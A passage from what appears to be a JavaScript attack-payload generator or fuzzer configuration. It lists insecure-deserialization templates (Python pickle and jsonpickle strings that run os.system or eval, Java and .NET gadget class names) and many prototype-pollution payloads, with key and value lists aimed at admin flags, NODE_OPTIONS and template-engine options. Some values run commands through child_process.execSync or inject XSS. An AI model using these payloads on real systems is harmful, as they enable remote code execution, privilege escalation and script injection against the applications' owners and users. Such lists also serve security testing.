    H4sIAAAAAAAA§b64§
    aced0005737200§hex§
    /wEy§b64§
    {"py/object":"__main__.Shell","py/reduce":[{"py/type":"os.system"},{"py/tuple":["§shell2§"]}]}
    c__builtin__\neval\n(S'__import__("os").system("§shell2§")'\ntR.
    cos\nsystem\n(S'§shell2§'\ntR.
  `,
  java64: encoded(javaStream),
  php_o: phpObject,
  php_o64: encoded(phpObject),
  pickle64: encoded(pickle),
  pickle_t: (r) => pickle(r).toString('latin1'),
  nettype: [
    'System.Windows.Data.ObjectDataProvider, PresentationFramework',
    'System.Security.Principal.WindowsIdentity, mscorlib',
    'System.Configuration.Install.AssemblyInstaller, System.Configuration.Install',
    'System.Activities.Presentation.WorkflowDesigner, System.Activities.Presentation',
    'System.IO.FileInfo, System.IO.FileSystem',
    'System.Workflow.ComponentModel.Serialization.ActivitySurrogateSelector',
  ],
  javatype: [
    'com.sun.rowset.JdbcRowSetImpl',
    'org.apache.xbean.propertyeditor.JndiConverter',
    'com.mchange.v2.c3p0.JndiRefForwardingDataSource',
    'ch.qos.logback.core.db.DriverManagerConnectionSource',
    'org.springframework.context.support.ClassPathXmlApplicationContext',
    'com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl',
    'java.lang.AutoCloseable',
    'java.net.InetAddress',
    'org.apache.ibatis.datasource.jndi.JndiDataSourceFactory',
    'javax.swing.JEditorPane',
    'java.lang.Class',
    'com.zaxxer.hikari.HikariConfig',
  ],

  proto: lines`
    __proto__[§pk§]=§pv§
    __proto__.§pk§=§pv§
    __proto__[§pk§][§rnd§]=§pv§
    constructor[prototype][§pk§]=§pv§
    constructor.prototype.§pk§=§pv§
    {"__proto__":{"§pk§":"§pv§"}}
    {"__proto__":{"§pk§":§n§}}
    {"__proto__":{"§pk§":true,"§rnd§":"§pv§"}}
    {"constructor":{"prototype":{"§pk§":"§pv§"}}}
    {"§word§":{"__proto__":{"§pk§":"§pv§"}}}
    {"§word§":"§rnd§","__proto__":{"§pk§":true}}
    {"__proto__":["§rnd§"],"length":§n§}
    §word§[__proto__][§pk§]=§pv§
    §word§.__proto__.§pk§=§pv§
    §word§[constructor][prototype][§pk§]=§pv§
    __proto__
    __proto__[§pk§]
    ["__proto__"]["§pk§"]
    #__proto__[§pk§]=§pv§
    ?__proto__[§pk§]=§pv§
    {"path":"__proto__.§pk§","value":"§pv§"}
    {"op":"add","path":"/__proto__/§pk§","value":"§pv§"}
    [{"op":"replace","path":"/constructor/prototype/§pk§","value":§n§}]
    __pro__proto__to__[§pk§]=§pv§
    constructor.prototype
    prototype[§pk§]=§pv§
    \\u005f\\u005fproto\\u005f\\u005f[§pk§]=§pv§
    __proto__%5B§pk§%5D=§pv§
    {"\\u005f_proto__":{"§pk§":true}}
  `,
  pk: [
    'isAdmin',
    'admin',
    'polluted',
    'role',
    'shell',
    'env',
    'NODE_OPTIONS',
    'argv0',
    'outputFunctionName',
    'client',
    'escapeFunction',
    'block',
    'status',
    'json spaces',
    'src',
    'innerHTML',
    'onerror',
    'test',
    'foo',
    'toString',
    'sourceURL',
    'type',
    'content-type',
    'exposedHeaders',
    'compileDebug',
    '§rnd§',
    'transport_url',
    'body',
    'head',
    'x',
    'isAuthenticated',
    'length',
  ],
  pv: [
    'true',
    '1',
    'admin',
    'polluted',
    '/proc/self/exe',
    '--require /proc/self/environ',
    'node',
    'x;process.mainModule.require("child_process").execSync("id");x',
    'data:,alert(1)',
    'alert(1)',
    '§rnd§',
    '510',
    'yes',
    '<img src=x onerror=alert(1)>',
    '--inspect=§host§',
    'console.log(1)',
  ],
}
